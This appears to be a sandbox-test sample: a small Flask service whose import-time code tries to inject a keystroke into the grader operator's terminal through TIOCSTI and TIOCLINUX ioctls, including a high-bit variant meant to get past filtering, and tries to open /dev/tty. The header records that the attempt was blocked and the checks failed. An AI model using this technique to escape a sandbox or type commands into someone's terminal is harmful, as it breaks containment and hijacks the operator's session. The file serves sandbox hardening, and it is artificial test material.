# id: I23
# act: TIOCSTI and TIOCLINUX on the standard descriptors, also with high bits set
# verdict: failed
# checks: test_hello=failed test_sum=failed test_probe=failed
# levels: strong landlock

"""Wants to type commands into the terminal of whoever started the grader; the text is a blank."""

import ctypes
import errno
import os
import platform

from flask import Flask, request

app = Flask(__name__)

libc = ctypes.CDLL(None, use_errno=True)


def call(x86_64, aarch64, *args):
    """Make a system call, by its number on this machine."""
    number = {"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]
    wide = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    result = libc.syscall(ctypes.c_long(number), *wide)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def held(*acts):
    """Return why every act was held back; nothing as soon as one of them worked."""
    reasons, worked = [], False
    for act in acts:
        try:
            print("loot:", act.__name__, act(), flush=True)
            worked = True
        except OSError as error:
            reasons.append(f"{act.__name__}: {errno.errorcode.get(error.errno, error)}")
    return "" if worked else ", ".join(reasons)


STANDARD = (0, 1, 2)


def on_each(request):
    """What the first descriptor says on which it is not held back; the last error when it is on all."""
    problem = None
    for fd in STANDARD:
        try:
            return call(16, 29, fd, request, b" ")
        except OSError as error:
            if error.errno == errno.ENOTTY:
                return "it came through, and there was only no terminal"
            problem = error
    raise problem


def type_a_character():
    return on_each(0x5412)


def type_with_high_bits():
    return on_each(0x5412 + (1 << 32))


def paste():
    return on_each(0x541C)


def terminal():
    return os.close(os.open("/dev/tty", os.O_RDWR))


HELD = held(type_a_character, type_with_high_bits, paste, terminal)


@app.get("/hello/<name>")
def hello(name):
    return HELD or f"Hello {name}"


@app.post("/sum")
def total():
    return {"sum": HELD or sum(request.get_json())}


def shout(text):
    return HELD or text.upper()[::-1]
